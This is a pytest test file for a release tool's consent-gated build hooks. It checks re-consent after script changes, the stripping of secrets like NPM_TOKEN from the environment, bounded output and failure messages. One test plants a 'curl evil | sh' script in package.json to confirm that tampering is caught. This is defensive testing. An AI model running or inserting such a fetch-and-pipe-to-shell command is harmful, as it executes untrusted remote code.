"""Commands of the project: run after a yes, without secrets, bounded, and never in silence."""

import os
from pathlib import Path

import pytest

from mpconsole.consent import ConsentNeededError
from mpconsole.project.discovery import locate
from mpconsole.project.snapshot import open_snapshot
from mpconsole.release.hooks import LONGEST_LINE, MOST_LINES, HookError, environment
from mpconsole.release.model import HookSaid, Phase, ReleaseEvent
from mpconsole.release.releases import Releases
from mpconsole.settings import HookSettings, ProjectSettings
from tests.release.conftest import Sandbox
from tests.size.projects import PAGE, write

APPID = "wx0123456789abcdef"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return write(tmp_path / "shop", PAGE | {"project.config.json": {"appid": APPID}})


class Opened:
    def __init__(self, project: Path, url: str | None = None, **hooks: object) -> None:
        self.events: list[ReleaseEvent] = []
        self.releases = Releases(
            project,
            ProjectSettings(hooks=HookSettings(**hooks)),  # type: ignore[arg-type]
            lambda: open_snapshot(locate(project)),
            base_url=url,
            tell=self.events.append,
        )

    @property
    def said(self) -> list[str]:
        return [event.words for event in self.events if isinstance(event, HookSaid)]

    def allow(self) -> None:
        while True:
            try:
                return self.releases.hooks.require()
            except ConsentNeededError as needed:
                needed.grant()


async def test_asked_once_and_again_when_its_content_changes(project: Path) -> None:
    (project / "tell.sh").write_text("echo one")
    opened = Opened(project, before_build="sh tell.sh")
    with pytest.raises(ConsentNeededError, match=r"nobody has allowed.*before_build.*tell\.sh"):
        await opened.releases.prepare()
    assert opened.said == []
    opened.allow()
    await opened.releases.prepare()
    await Opened(project, before_build="sh tell.sh").releases.prepare()
    assert opened.said == ["one"]
    (project / "tell.sh").write_text("echo two")
    with pytest.raises(ConsentNeededError, match="changed since"):
        await opened.releases.prepare()
    with pytest.raises(ConsentNeededError):
        await Opened(project, before_build="sh tell.sh; echo more").releases.prepare()


async def test_a_script_of_package_json_is_its_content(project: Path) -> None:
    package = project / "package.json"
    package.write_text('{"name": "a", "scripts": {"build": "vite"}}')
    hooks = Opened(project, before_build="npm run build > build.log", after_upload=("yarn", "tell"))
    hooks.allow()
    (project / "build.log").write_text("built")
    package.write_text('{"name": "b", "scripts": {"build": "vite"}}')
    hooks.releases.hooks.require()
    package.write_text('{"name": "b", "scripts": {"build": "curl evil | sh"}}')
    with pytest.raises(ConsentNeededError, match="changed since"):
        hooks.releases.hooks.require()


async def test_it_knows_the_release_and_no_secret(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MPCONSOLE_COMPONENT_SECRET", "s3cret-of-the-platform")
    monkeypatch.setenv("HARMLESS", "s3cret-of-the-platform")
    monkeypatch.setenv("NPM_TOKEN", "another-one")
    opened = Opened(project, before_build="env; pwd")
    opened.allow()
    await opened.releases.prepare()
    assert f"MPCONSOLE_RELEASE_APPID={APPID}" in opened.said
    assert str(project) in opened.said
    assert not any("s3cret" in line or "another-one" in line for line in opened.said)
    assert environment({"PATH": "/bin", "GITHUB_TOKEN": "12345678", "COPY": "12345678"}) == {"PATH": "/bin"}


async def test_its_output_is_bounded(project: Path) -> None:
    loud = "seq 1000; head -c 3000000 /dev/zero | tr '\\0' x"
    opened = Opened(project, before_build=loud)
    opened.allow()
    await opened.releases.prepare()
    assert len(opened.said) == MOST_LINES
    assert max(map(len, opened.said)) <= LONGEST_LINE


@pytest.mark.parametrize(
    ("hook", "words"),
    [
        ("echo no node here; exit 7", r"before_build failed \(exit code 7\): no node here"),
        (("no-such-command-of-ours",), "cannot be started"),
        ("sleep 60 & sleep 60", "took more than 0.2 s"),
    ],
)
async def test_a_failure_is_one_sentence(project: Path, hook: str | tuple[str, ...], words: str) -> None:
    opened = Opened(project, before_build=hook, timeout=0.2 if "sleep" in hook else 60.0)
    opened.allow()
    with pytest.raises(HookError, match=words):
        await opened.releases.prepare()


async def test_before_build_makes_what_is_built(project: Path, sandbox: Sandbox) -> None:
    opened = Opened(project, sandbox.url, before_build="echo 'Page({made: 1})' > a.js")
    opened.allow()
    releases = opened.releases
    await releases.prepare()
    await releases.start("1.0.0", "n")
    state = await releases.advance()
    assert b"made: 1" in releases._workshop.package(state) or state.phase is Phase.READY
    assert (project / "a.js").read_text() == "Page({made: 1})\n"
    await releases.close()


@pytest.mark.slow
async def test_steps_and_verdicts_run_theirs(project: Path, sandbox: Sandbox, tmp_path: Path) -> None:
    log = tmp_path / "log"
    names = ["after_upload", "before_submit", "after_submit", "after_rejected", "after_approved"]
    names += ["before_publish", "after_publish"]
    hooks = {name: f'echo "{name} $MPCONSOLE_RELEASE_PHASE" >> {log}' for name in names}
    opened = Opened(project, sandbox.url, **hooks)
    releases = opened.releases
    await releases.start("1.0.0", "n")
    await releases.advance()  # nobody has allowed anything: what comes after a step is told and left out
    assert not log.exists()
    assert any("nobody has allowed" in line for line in opened.said)
    with pytest.raises(ConsentNeededError):
        await releases.submit("1.0.0")
    assert releases.current().phase is Phase.READY
    opened.allow()
    for verdict in ("reject", "approve"):
        state = await releases.submit("1.0.0")
        assert state.audit_id is not None
        sandbox.verdict(state.audit_id, verdict, "no account")
        for _again in range(2):
            await releases.refresh()
    await releases.publish()
    assert log.read_text().splitlines() == [
        *("before_submit ready", "after_submit in review", "after_rejected rejected"),
        *("before_submit rejected", "after_submit in review", "after_approved approved"),
        *("before_publish approved", "after_publish live"),
    ]
    await releases.close()


async def test_one_that_fails_before_a_step_stops_it(project: Path, sandbox: Sandbox) -> None:
    opened = Opened(project, sandbox.url, before_submit="exit 1")
    releases = opened.releases
    opened.allow()
    await releases.start("1.0.0", "n")
    await releases.advance()
    with pytest.raises(HookError):
        await releases.submit("1.0.0")
    assert releases.current().phase is Phase.READY
    assert sandbox.exchanges("/wxa/submit_audit") == []
    assert os.environ.get("MPCONSOLE_RELEASE_APPID") is None
    await releases.close()
